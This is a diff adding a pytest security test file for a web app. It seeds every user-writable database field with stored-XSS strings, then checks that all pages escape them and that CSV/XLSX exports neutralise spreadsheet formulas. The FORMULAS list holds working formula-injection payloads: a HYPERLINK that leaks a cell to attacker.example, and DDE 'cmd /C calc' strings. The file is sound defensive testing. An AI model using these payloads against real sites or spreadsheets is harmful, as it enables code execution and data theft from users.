@@ -1,0 +1,445 @@
+"""Stored cross-site scripting and spreadsheet formulas (ASVS V1.2 injection, V3.2 output encoding).
+
+Every text a user can write — project, organisation and user names, results and indicators,
+narratives, values, comments, design input and responses, criteria, scales, evaluations,
+recommendations, scores, file names, even the browser name kept with a session — holds the
+attack payloads; then every page of the app is read by every kind of user. No page may carry a
+script, an event-handler attribute or a `javascript:` link that came from the data, and template
+syntax is shown, never run. The same fields hold formula triggers for the spreadsheet downloads
+(CSV and XLSX): every such cell reaches the spreadsheet as text.
+
+`test_every_text_column_is_attacked` fails when a text column is added without being listed
+here, either as attacked or as not written by users (with the reason).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+from datetime import date
+
+import pytest
+import sqlalchemy as sa
+from lxml import html as lxml_html
+from openpyxl import load_workbook
+
+from mel_app import audit
+from mel_app.extensions import db
+from mel_app.models import (
+    Attachment,
+    Comment,
+    CriteriaSet,
+    Criterion,
+    DesignInputItem,
+    DesignItemKind,
+    Disposition,
+    Evaluation,
+    FrameworkImport,
+    Indicator,
+    IndicatorValue,
+    Organisation,
+    Project,
+    Recommendation,
+    ReportingPeriod,
+    Result,
+    Scale,
+    ScalePoint,
+    Score,
+    Submission,
+    SubmissionVersion,
+    User,
+    utcnow,
+)
+from tests.authz.world import build_world
+from tests.conftest import csrf_token
+from tests.factories import Factory
+from tests.security.conftest import KINDS, dispose, get_routes, make_app, route_url, sign_in
+
+SCRIPT = "<script>alert(1)</script>"
+ATTRIBUTE = '"onmouseover=alert(1) x="'
+TEMPLATE = "{{7*7}}"
+LINK = "javascript:alert(1)"
+# All four in one text; it starts with the link so that a field rendered as a URL shows it.
+COMBINED = LINK + SCRIPT + ATTRIBUTE + TEMPLATE
+# For short columns: the longest that fits, in this order.
+SHORT = [ATTRIBUTE, SCRIPT, "<script>alert(1)", '"onmouseover=a x="', TEMPLATE]
+
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?"&A1,"Open")',
+    "+SUM(1,1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+# (model, column): text users write, directly or through an upload or their browser.
+ATTACKED = {
+    Organisation: ["name", "acronym"],
+    Project: ["reference", "title", "summary", "donor"],
+    User: ["full_name"],
+    CriteriaSet: ["name", "description"],
+    Criterion: ["code", "name", "guiding_question"],
+    Scale: ["name"],
+    ScalePoint: ["label", "rubric"],
+    ReportingPeriod: ["label"],
+    Result: ["code", "title", "description"],
+    Indicator: [
+        "code",
+        "title",
+        "description",
+        "unit",
+        "baseline_comment",
+        "target_comment",
+        "means_of_verification",
+    ],
+    Evaluation: ["title"],
+    FrameworkImport: ["filename"],
+    Attachment: ["filename"],
+    Comment: ["body"],
+    DesignInputItem: ["text", "response_reason"],
+    IndicatorValue: ["text_value", "comment"],
+    Recommendation: ["text", "addressed_to", "planned_action"],
+    Score: ["justification"],
+    Submission: ["narrative"],  # JSON: every section's text
+    SubmissionVersion: ["content"],  # JSON: the narrative, values and file names as submitted
+}
+# The browser's name, kept with each session and shown on the account page.
+ATTACKED_ELSEWHERE = {("user_session", "user_agent")}
+NOT_USER_TEXT = {
+    ("audit_event", "*"): "written by the app; holds the attacked values as JSON, shown on the trail pages",
+    ("login_attempt", "key"): "a hash of the email and address, never shown",
+    ("organisation", "country"): "an ISO code chosen from a list",
+    ("project_country", "country"): "an ISO code chosen from a list",
+    ("user", "email"): "checked as an address (email-validator) before it is stored",
+    ("user", "password_hash"): "secret, never shown",
+    ("user", "preferred_language"): "chosen from a list",
+    ("user", "session_token"): "secret, never shown",
+    ("user", "totp_secret"): "secret, never shown",
+    ("framework_import", "file_format"): "set by the app from the file's type",
+    ("framework_import", "sha256"): "computed",
+    ("one_time_token", "purpose"): "set by the app",
+    ("one_time_token", "token_hash"): "secret, never shown",
+    ("user_session", "token_hash"): "secret, never shown",
+    ("user_session", "remote_addr"): "the network address, set by the server",
+    ("attachment", "media_type"): "set by the app from the file's content",
+    ("attachment", "sha256"): "computed",
+    ("comment", "section"): "chosen from the report's section keys",
+    ("score", "evidence"): "references chosen from a list, checked against the project's",
+}
+
+
+def _text_columns():
+    for table in db.metadata.sorted_tables:
+        for column in table.columns:
+            if isinstance(column.type, sa.String | sa.Text | sa.JSON) and not isinstance(
+                column.type, sa.Enum
+            ):
+                yield table.name, column
+
+
+def test_every_text_column_is_attacked():
+    attacked = {(model.__tablename__, name) for model, names in ATTACKED.items() for name in names}
+    unlisted = []
+    for table, column in _text_columns():
+        key = (table, column.name)
+        if (
+            key in attacked
+            or key in ATTACKED_ELSEWHERE
+            or key in NOT_USER_TEXT
+            or (table, "*") in NOT_USER_TEXT
+        ):
+            continue
+        unlisted.append(f"{table}.{column.name}")
+    assert not unlisted, f"text columns neither attacked nor explained in test_xss.py: {unlisted}"
+
+
+# ---------------------------------------------------------------------------------------------
+# The world, with every text replaced
+
+
+def _value(column: sa.Column, row_id: int, payloads: list[str], combined: str) -> str:
+    unique = column.unique or any(
+        column.name in {c.name for c in constraint.columns}
+        for constraint in column.table.constraints
+        if isinstance(constraint, sa.UniqueConstraint)
+    )
+    suffix = f" {row_id}" if unique else ""
+    limit = getattr(column.type, "length", None) or 100_000
+    for text in (combined, *payloads):
+        if len(text + suffix) <= limit:
+            return text + suffix
+    return (payloads[-1] + suffix)[:limit]
+
+
+def _json_text(value, text: str):
+    """The same structure with every string that is not a key or an identifier replaced."""
+    if isinstance(value, dict):
+        return {
+            k: (
+                v
+                if k in {"status", "kind", "media_type", "sha256", "unit_kind", "measure"}
+                else _json_text(v, text)
+            )
+            for k, v in value.items()
+        }
+    if isinstance(value, list):
+        return [_json_text(v, text) for v in value]
+    if isinstance(value, str) and value:
+        return text
+    return value
+
+
+def _add_missing_rows(world) -> None:
+    """Rows the matrix's world does not have: values, design input and its answers, scores."""
+    session = db.session
+    session.add(
+        IndicatorValue(submission_id=world.submission, indicator_id=world.indicator, value=3, comment="c")
+    )
+    for sub_id in (world.draft_submission, world.submitted_design_input):
+        session.add(
+            DesignInputItem(submission_id=sub_id, kind=list(DesignItemKind)[0], text="point", position=1)
+        )
+    session.add(
+        DesignInputItem(
+            submission_id=world.submitted_design_input,
+            kind=list(DesignItemKind)[0],
+            text="answered",
+            position=2,
+            disposition=Disposition.partly,
+            response_reason="because",
+            responded_by_id=world.user_specialist,
+            responded_at=utcnow(),
+        )
+    )
+    criteria = session.scalars(
+        sa.select(Criterion).where(Criterion.criteria_set_id == world.criteria_set)
+    ).all()
+    for criterion in criteria:
+        session.add(
+            Score(
+                scorecard_id=world.submitted_scorecard, criterion_id=criterion.id, point=3, justification="j"
+            )
+        )
+    submission = session.get(Submission, world.submission)
+    submission.narrative = {"achievements": "a", "challenges": "b", "lessons_learned": "c"}
+    recommendation = session.get(Recommendation, world.recommendation)
+    recommendation.planned_action = "plan"
+    recommendation.addressed_to = "ILO"
+    recommendation.due_date = date(2027, 1, 1)
+
+
+def poison(app, world, payloads: list[str], combined: str, *, skip=frozenset()) -> None:
+    """Put the payloads in every attacked column of every row (the audit trail records them)."""
+    with app.app_context():
+        session = db.session
+        audit.set_actor(session(), audit.SYSTEM_ACTOR)
+        _add_missing_rows(world)
+        session.flush()
+        for model, names in ATTACKED.items():
+            for row in session.scalars(sa.select(model)).all():
+                for name in names:
+                    if (model, name) in skip:
+                        continue
+                    column = model.__table__.columns[name]
+                    if isinstance(column.type, sa.JSON):
+                        setattr(row, name, _json_text(getattr(row, name) or {}, combined))
+                    else:
+                        setattr(row, name, _value(column, row.id, payloads, combined))
+        session.commit()
+        session.remove()
+
+
+@pytest.fixture(scope="module")
+def attacked(database):
+    app, url = make_app(database)
+    world = build_world(app, Factory(app))
+    poison(app, world, SHORT, COMBINED)
+    clients = sign_in(app, world, user_agent=COMBINED)
+    yield app, world, clients
+    dispose(app, database, url)
+
+
+# ---------------------------------------------------------------------------------------------
+# Every page, every kind of user
+
+URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "xlink:href", "poster", "background")
+
+
+def page_problems(body: str) -> list[str]:
+    problems = []
+    if "<script>alert(1)" in body:
+        problems.append("an unescaped <script> from the data")
+    for evaluated in ('x="49', "x=&#34;49", "x=&quot;49"):
+        if evaluated in body:
+            problems.append("template syntax from the data was evaluated ({{7*7}} became 49)")
+    document = lxml_html.document_fromstring(body)
+    for element in document.iter():
+        if not isinstance(element.tag, str):
+            continue
+        for name, value in element.attrib.items():
+            lowered = name.lower().rsplit("}", 1)[-1]
+            if lowered.startswith("on"):
+                problems.append(f"<{element.tag} {name}={value!r}>: an event handler attribute")
+            is_url = lowered in URL_ATTRIBUTES or name in URL_ATTRIBUTES
+            if is_url and "".join(value.split()).lower().startswith("javascript:"):
+                problems.append(f"<{element.tag} {name}={value!r}>: a javascript: URL")
+        if element.tag == "script" and (element.text or "").strip():
+            problems.append("an inline script")
+    return problems
+
+
+def test_no_page_runs_or_injects_what_users_wrote(attacked):
+    app, world, clients = attacked
+    problems, pages = [], 0
+    seen_literal = seen_escaped = False
+    for endpoint, rule in get_routes(app):
+        url = route_url(app, endpoint, rule, world)
+        for kind in KINDS:
+            with clients[kind].get(url) as resp:
+                assert resp.status_code < 500, f"GET {url} as {kind}: {resp.status_code}"
+                if resp.status_code != 200 or not resp.mimetype.startswith("text/html"):
+                    continue
+                body = resp.get_data(as_text=True)
+            pages += 1
+            problems += [f"GET {url} as {kind}: {p}" for p in page_problems(body)]
+            seen_literal = seen_literal or TEMPLATE in body
+            seen_escaped = seen_escaped or "&lt;script&gt;alert(1)&lt;/script&gt;" in body
+    assert pages > 100, "pages were read"
+    assert seen_literal, "{{7*7}} is shown as typed somewhere"
+    assert seen_escaped, "the payloads were shown (escaped) somewhere"
+    assert not problems, "\n".join(problems[:40])
+
+
+@pytest.mark.parametrize(
+    "endpoint",
+    [
+        "projects.detail",
+        "submissions.detail",
+        "submissions.version",
+        "evaluations.detail",
+        "evaluations.consolidated",
+        "audit.trail",
+        "account.profile",
+        "admin.users",
+        "admin.organisations",
+        "projects.framework",
+    ],
+)
+def test_the_payloads_are_shown_as_typed_on_the_main_pages(attacked, endpoint):
+    """Escaped, not dropped: the user sees exactly what was written."""
+    app, world, clients = attacked
+    rule = next(rule for name, rule in get_routes(app) if name == endpoint)
+    url = route_url(app, endpoint, rule, world)
+    kind = "admin" if endpoint.startswith(("admin.", "evaluations.consolidated")) else "specialist"
+    with clients[kind].get(url) as resp:
+        assert resp.status_code == 200
+        text = lxml_html.document_fromstring(resp.get_data(as_text=True)).text_content()
+    assert SCRIPT in text or "<script>alert(1)" in text
+    assert TEMPLATE in text
+
+
+def test_the_checks_catch_an_injection():
+    """The page checks themselves fail on a page that was injected."""
+    assert page_problems(f'<p title="{ATTRIBUTE}">x</p>')
+    assert page_problems('<a href=" JavaScript:alert(1)">x</a>')
+    assert page_problems("<p>x=&#34;49</p>")
+    assert page_problems("<div><script>alert(1)</script></div>")
+    assert not page_problems('<p title="&#34;onmouseover=alert(1) x=&#34;">&lt;script&gt;</p>')
+
+
+# ---------------------------------------------------------------------------------------------
+# Spreadsheet downloads
+
+
+# The form accepts only ILO references (RAF/22/11/NOR), which start with a letter.
+NOT_FORMULA_TEXT = {(Project, "reference")}
+
+
+def test_a_project_reference_cannot_start_a_formula(app):
+    from mel_app.projects.services import reference_error
+
+    with app.test_request_context():
+        for text in ["=1+1", "+RAF/22/11/NOR", "-1/22/11/NOR", "@SUM(1)", "\t=1", "\r=1"]:
+            assert reference_error(text.strip()), text
+
+
+@pytest.fixture(scope="module")
+def formulas(database):
+    app, url = make_app(database)
+    world = build_world(app, Factory(app))
+    poison(app, world, FORMULAS[::-1] + ["=1+1"], FORMULAS[0], skip=NOT_FORMULA_TEXT)
+    clients = sign_in(app, world, user_agent=FORMULAS[0])
+    yield app, world, clients
+    dispose(app, database, url)
+
+
+def _cells(body: bytes, mimetype: str) -> list[tuple[str, object, str]]:
+    """(file, value, type) of every cell of a CSV, a ZIP of CSVs or an XLSX workbook."""
+    cells = []
+    if body[:2] == b"PK":
+        with zipfile.ZipFile(io.BytesIO(body)) as archive:
+            if "xl/workbook.xml" in archive.namelist():
+                book = load_workbook(io.BytesIO(body))
+                for sheet in book.worksheets:
+                    for row in sheet.iter_rows():
+                        for cell in row:
+                            if cell.value is not None:
+                                cells.append((sheet.title, cell.value, cell.data_type))
+                return cells
+            for name in archive.namelist():
+                if name.endswith(".csv"):
+                    cells += _csv_cells(name, archive.read(name))
+        return cells
+    return _csv_cells(mimetype, body)
+
+
+def _csv_cells(name: str, data: bytes) -> list[tuple[str, object, str]]:
+    text = data.decode("utf-8-sig")
+    return [(name, value, "s") for row in csv.reader(io.StringIO(text)) for value in row if value]
+
+
+def _is_number(value) -> bool:
+    try:
+        float(str(value))
+    except ValueError:
+        return False
+    return True
+
+
+def _downloads(app, world):
+    """(who, method, url, form) of every spreadsheet download."""
+    with app.test_request_context():
+        from flask import url_for
+
+        for fmt in ("csv", "xlsx"):
+            framework = url_for("projects.export_framework", project_id=world.project, file_format=fmt)
+            yield "specialist", "GET", framework, {}
+            yield "specialist", "POST", url_for("exports.download"), {"format": fmt, "all_statuses": "y"}
+            yield "admin", "POST", url_for("exports.download"), {"format": fmt}
+        results = url_for("evaluations.download_results", evaluation_id=world.evaluation)
+        for what in ("summary", "scores"):
+            yield "specialist", "POST", results, {"what": what}
+        yield "admin", "POST", url_for("audit.download"), {}
+
+
+def test_formula_triggers_reach_every_spreadsheet_download_as_text(formulas):
+    app, world, clients = formulas
+    problems, checked = [], 0
+    for kind, method, url, form in _downloads(app, world):
+        client = clients[kind]
+        if method == "GET":
+            resp = client.get(url)
+        else:
+            resp = client.post(url, data={**form, "csrf_token": csrf_token(client)})
+        assert resp.status_code == 200, f"{method} {url} as {kind}: {resp.status_code}"
+        for where, value, data_type in _cells(resp.data, resp.mimetype):
+            checked += 1
+            if data_type == "f":
+                problems.append(f"{url} {where}: a formula cell {value!r}")
+            elif isinstance(value, str) and value.startswith(TRIGGERS) and not _is_number(value):
+                problems.append(f"{url} {where}: {value!r} would run as a formula")
+    assert checked > 200
+    assert not problems, "\n".join(problems[:40])
